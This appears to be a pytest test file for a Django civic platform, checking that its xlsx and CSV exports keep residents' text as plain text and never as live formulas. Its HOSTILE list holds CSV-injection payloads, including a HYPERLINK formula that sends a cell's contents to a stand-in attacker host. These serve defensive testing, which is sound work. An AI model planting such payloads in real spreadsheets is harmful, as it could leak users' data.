"""Residents' text in every spreadsheet and CSV the platform writes stays text: never a live formula.

Each real writer is exercised with text that spreadsheet programs would run (=, +, -, @, tab, CR at the start):
the xlsx files hold strings (no <f> formula element in the sheet XML, and the reader sees the exact text); CSV
cells start with a single quote (OWASP's rule for CSV injection).
"""
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from weizhili import exports

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1",
           "=1+1 楼道灯坏了"]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return "".join(book.read(name).decode() for name in book.namelist()
                       if name.startswith("xl/worksheets/sheet"))


def _cells(content: bytes, tmp_path: Path) -> set[str]:
    path = tmp_path / "read.xlsx"
    path.write_bytes(content)
    book = CalamineWorkbook.from_path(str(path))
    return {str(cell) for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python()
            for cell in row}


def _assert_no_formula(content: bytes):
    xml = _sheet_xml(content)
    assert not re.search(r"<f[ >]", xml), "a cell was written as a formula"


# --- the helper itself ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_start_a_formula_get_a_quote(text):
    assert exports.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["楼道灯坏了", "2024-03-05 09:10:00", "0.85", "", 12, -3, None, 1.5])
def test_other_csv_cells_pass_unchanged(value):
    assert exports.csv_cell(value) == value


def test_xlsx_workbook_writes_strings_as_strings(tmp_path):
    buffer = io.BytesIO()
    book = exports.xlsx_workbook(buffer, strings_to_formulas=True)  # the caller cannot turn it back on
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, [*HOSTILE, "123", "http://example.com"])
    book.close()
    content = buffer.getvalue()
    _assert_no_formula(content)
    assert "<hyperlink" not in _sheet_xml(content)
    cells = _cells(content, tmp_path)
    assert {t.replace("\r", "\n") for t in HOSTILE} | {"123", "http://example.com"} <= \
        {c.replace("\r", "\n") for c in cells}


def test_csv_lines_stream_with_a_bom_and_quote_the_dangerous_cells():
    lines = exports.csv_lines(iter([["=1+1", "普通"]]), header=["甲", "乙"], bom=True)
    assert next(lines) == "\ufeff甲,乙\r\n"
    assert list(csv.reader(io.StringIO(next(lines)))) == [["'=1+1", "普通"]]


# --- the real exports -------------------------------------------------------------------------------------------

@pytest.fixture
def hostile_cases(tree):
    from weizhili.cases.services import case_create, categories_ensure

    category = categories_ensure(street=tree["street"])[0]
    return [case_create(place=tree["east_household"], category=category, description=text)
            for text in HOSTILE]


@pytest.mark.django_db
def test_case_export_holds_descriptions_as_text(client, personas, hostile_cases, tmp_path):
    client.force_login(personas["street_cadre"])
    response = client.get(reverse("cases:export"), {"view": "open"})
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    _assert_no_formula(response.content)
    cells = _cells(response.content, tmp_path)
    for case in hostile_cases:
        assert case.description in cells


@pytest.fixture
def hostile_orders(tree):
    from weizhili.hotline.models import HotlineOrder

    now = timezone.now()
    return [HotlineOrder.objects.create(
        street=tree["street"], order_no=f"{text[:30]}#{i}", received_at=now, content="楼道灯不亮", updated_at=now,
        category=text, predicted_category=text, place=tree["east_compound"], compound=tree["east_compound"],
        community=tree["east"]) for i, text in enumerate(HOSTILE)]


def _assert_quoted(rows: list[list[str]], orders):
    header, body = rows[0], rows[1:]
    assert len(body) == len(orders)
    column = {name: header.index(name) for name in ("工单编号", "问题分类", "预测分类")}
    for row in body:
        for index in column.values():
            assert row[index].startswith("'"), row
    assert sorted(row[column["问题分类"]] for row in body) == sorted("'" + o.category for o in orders)


@pytest.mark.django_db
def test_hotline_csv_download_streams_and_quotes_formulas(client, personas, hostile_orders):
    client.force_login(personas["street_cadre"])
    response = client.get(reverse("hotline:export"))
    assert response.status_code == 200 and response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    _assert_quoted(list(csv.reader(io.StringIO(text, newline=""))), hostile_orders)


@pytest.mark.django_db
def test_export_hotline_command_quotes_formulas(hostile_orders, tmp_path):
    target = tmp_path / "orders.csv"
    call_command("export-hotline", str(target), stdout=io.StringIO())
    with target.open(encoding="utf-8-sig", newline="") as fh:
        _assert_quoted(list(csv.reader(fh)), hostile_orders)


def test_hotline_error_file_holds_values_as_text(tmp_path):
    from weizhili.hotline.reading import RowProblem, write_problems

    path = tmp_path / "errors.xlsx"
    write_problems([RowProblem(i + 2, text, text, "日期无效") for i, text in enumerate(HOSTILE)], path)
    content = path.read_bytes()
    _assert_no_formula(content)
    assert HOSTILE[0] in _cells(content, tmp_path)


def test_places_import_template_is_made_by_the_helper(tmp_path):
    from weizhili.places.importer import HEADERS, build_template

    content = build_template()
    _assert_no_formula(content)
    assert set(HEADERS) <= _cells(content, tmp_path)


@pytest.mark.django_db
def test_nothing_writes_spreadsheets_around_the_helper():
    """Every writer goes through weizhili/exports.py: no other module builds an xlsxwriter workbook or a csv
    writer (tests and benchmarks write input files of their own and are not checked)."""
    package = Path(exports.__file__).parent
    offenders = [str(path.relative_to(package)) for path in package.rglob("*.py")
                 if path.name != "exports.py" and re.search(r"xlsxwriter\.Workbook|csv\.writer|csv\.DictWriter",
                                                             path.read_text(encoding="utf-8"))]
    assert offenders == []
